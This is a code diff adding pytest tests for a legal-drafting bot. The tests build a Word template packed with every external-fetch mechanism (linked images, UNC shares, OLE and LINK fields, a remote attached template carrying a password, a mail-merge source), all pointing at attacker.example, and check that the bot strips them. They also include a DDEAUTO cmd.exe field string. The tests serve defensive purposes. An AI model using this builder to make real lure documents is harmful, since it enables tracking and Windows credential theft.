@@ -1007,3 +1007,148 @@ def test_a_pdf_of_tens_of_thousands_of_pages_is_refused_before_it_is_parsed(monk
         extract_bytes(data, "pages.pdf", isolate=False)
     assert opened == [], "counted in the bytes: no parser was built"
     assert "more pages than the limit of 2,000" in str(err.value) and "RULEBOT_MAX_PDF_PAGES" in str(err.value)
+
+
+# --- probe: a Word template that reaches outside the document ---------------------------------------
+
+BEACON = "attacker.example"  # every address the hostile template names is on this host
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def reaching_template(path: Path) -> Path:
+    """A firm template, built now, holding each way a .docx makes Word fetch an address when it is opened:
+    a linked picture, a hyperlink to a file share, an OLE link (its preview linked too), INCLUDEPICTURE (a
+    complex field), INCLUDETEXT (a simple one), a LINK field nested in an IF in the header, a header
+    picture, a remote attached template (with a password in its address) and a mail-merge data source."""
+    from xml.sax.saxutils import escape
+
+    from docx import Document
+    from docx.oxml import parse_xml
+
+    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
+          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
+          'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')
+
+    def picture(rid: str) -> str:
+        return (f'<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="7" name="p"/>'
+                '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+                f'<pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
+                f'<a:blip r:link="{rid}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
+                '</wp:inline></w:drawing></w:r>')
+
+    def field(code: str, result: str) -> str:
+        return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{escape(code)}'
+                f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t>'
+                '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+    share = "\\\\" + BEACON  # a Windows file share, \\attacker.example
+    seal = field(f' INCLUDEPICTURE "http://{BEACON}/seal.png" \\d ', "[firm seal]")
+    venue = f' INCLUDETEXT "{share}\\\\clauses\\\\venue.docx" '
+    fees = field(f' LINK Excel.Sheet.12 "{share}\\\\fees.xlsx" "Sheet1" \\a ', "fees")
+    doc = Document()
+    doc.add_paragraph("{{ draft }}")
+    part, body = doc.part, doc.element.body
+    ext = lambda p, url, kind: p.relate_to(url, REL + kind, is_external=True)  # noqa: E731
+    blocks = [
+        f'<w:p {ns}>{picture(ext(part, f"http://{BEACON}/beacon.png", "image"))}</w:p>',
+        f'<w:p {ns}><w:hyperlink r:id="{ext(part, f"file://{BEACON}/share/Engagement.docx", "hyperlink")}">'
+        '<w:r><w:t>the engagement letter</w:t></w:r></w:hyperlink></w:p>',
+        f'<w:p {ns}><w:r><w:object><v:shape id="_x0000_i1025"><v:imagedata '
+        f'r:id="{ext(part, f"http://{BEACON}/preview.emf", "image")}"/></v:shape><o:OLEObject Type="Link" '
+        f'ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" UpdateMode="Always" '
+        f'r:id="{ext(part, f"http://{BEACON}/fees.xlsx", "oleObject")}"/></w:object></w:r></w:p>',
+        f'<w:p {ns}>{seal}</w:p>',
+        f'<w:p {ns}><w:fldSimple w:instr="{escape(venue, {chr(34): "&quot;"})}"><w:r><w:t>Venue clause.</w:t></w:r>'
+        '</w:fldSimple></w:p>',
+    ]
+    for xml in blocks:
+        body.sectPr.addprevious(parse_xml(xml))
+    header = doc.sections[0].header
+    header.paragraphs[0].text = "WHITFIELD & OCHOA LLP"
+    hp = header.part
+    header._element.append(parse_xml(
+        f'<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
+        f'{fees}<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>Fee table</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        f'{picture(ext(hp, f"http://{BEACON}/letterhead.png", "image"))}</w:p>'))
+    settings = doc.settings.element
+    sp = doc.part._settings_part
+    settings.insert(0, parse_xml(
+        f'<w:attachedTemplate {ns} r:id="{ext(sp, f"http://clerk:hunter2@{BEACON}/Pleading.dotm", "attachedTemplate")}"/>'))
+    settings.append(parse_xml(
+        f'<w:mailMerge {ns}><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
+        f'<w:connectString w:val="DSN=clients;SERVER={BEACON}"/><w:query w:val="SELECT * FROM clients"/>'
+        f'<w:dataSource r:id="{ext(sp, f"file://{BEACON}/clients.mdb", "mailMergeSource")}"/></w:mailMerge>'))
+    doc.save(str(path))
+    return path
+
+
+def package_parts(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return {i.filename: zf.read(i) for i in zf.infolist()}
+
+
+def test_a_word_template_that_reaches_outside_gives_drafts_that_do_not(tmp_path, caplog):
+    """What would make Word fetch an address when a draft is opened (a beacon, or a Windows sign-in sent to
+    whoever runs it) is removed when the template is loaded; what it showed stays."""
+    import re
+
+    from docx import Document
+
+    from bot.draft import docx as D
+    from bot.draft.types import Draft
+
+    template = reaching_template(tmp_path / "firm.docx")
+    hostile = package_parts(template.read_bytes())
+    assert sum(b'TargetMode="External"' in v for v in hostile.values()) == 3  # document, header, settings
+    assert sum(v.count(BEACON.encode()) for v in hostile.values()) == 11
+    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
+        data = D.to_bytes(Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree."),
+                          template=template)
+    for name, body in package_parts(data).items():
+        assert BEACON.encode() not in body, name
+        assert b'TargetMode="External"' not in body and b"TargetMode='External'" not in body, name
+        assert not re.search(rb"INCLUDEPICTURE|INCLUDETEXT|\bLINK\b|\bDDE|mailMerge|attachedTemplate", body), name
+    doc = Document(io.BytesIO(data))
+    text = [p.text for p in doc.paragraphs]
+    assert "GOOD CAUSE STATEMENT" in text and "The parties agree." in text  # the draft, where the marker was
+    assert {"the engagement letter", "[firm seal]", "Venue clause."} <= set(text)  # what they showed stays
+    assert doc.sections[0].header.paragraphs[0].text == "WHITFIELD & OCHOA LLP"
+    assert "Fee table" in doc.sections[0].header.paragraphs[1].text
+    warned = [r.getMessage() for r in caplog.records if r.name == "bot.draft.template"]
+    assert len(warned) == 1 and "hunter2" not in warned[0], warned
+    for kind in ("attachedTemplate", "image", "hyperlink", "oleObject", "mailMergeSource", "field INCLUDEPICTURE",
+                 "field INCLUDETEXT", "field LINK", "mail merge"):
+        assert kind in warned[0], kind
+
+
+def test_a_template_that_reaches_nowhere_is_used_as_it_is(tmp_path):
+    """Fields that fetch nothing (a page number) and the template's own parts are left byte for byte."""
+    from docx import Document
+    from docx.oxml import parse_xml
+
+    from bot.draft.template import strip_external
+
+    doc = Document()
+    doc.add_paragraph("{{ draft }}")
+    doc.sections[0].footer._element.append(parse_xml(
+        '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldSimple w:instr=" PAGE ">'
+        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"))
+    buf = io.BytesIO()
+    doc.save(buf)
+    assert strip_external(buf.getvalue()) == (buf.getvalue(), ())
+
+
+@pytest.mark.parametrize("code,fetches", [
+    (' INCLUDEPICTURE "http://x.example/p.png" \\d ', True), ("includetext c:\\clauses\\a.docx", True),
+    (' LINK Excel.Sheet.12 "\\\\srv\\a.xlsx" ', True), ("DDEAUTO c:\\windows\\system32\\cmd.exe", True),
+    (" PAGE ", False), (' HYPERLINK "https://www.cacd.uscourts.gov" ', False), (" MERGEFIELD client ", False),
+    ("", False), ("   ", False),
+])
+def test_fields_that_fetch(code, fetches):
+    from bot.draft.template import fetching_field
+
+    assert fetching_field(code) is fetches
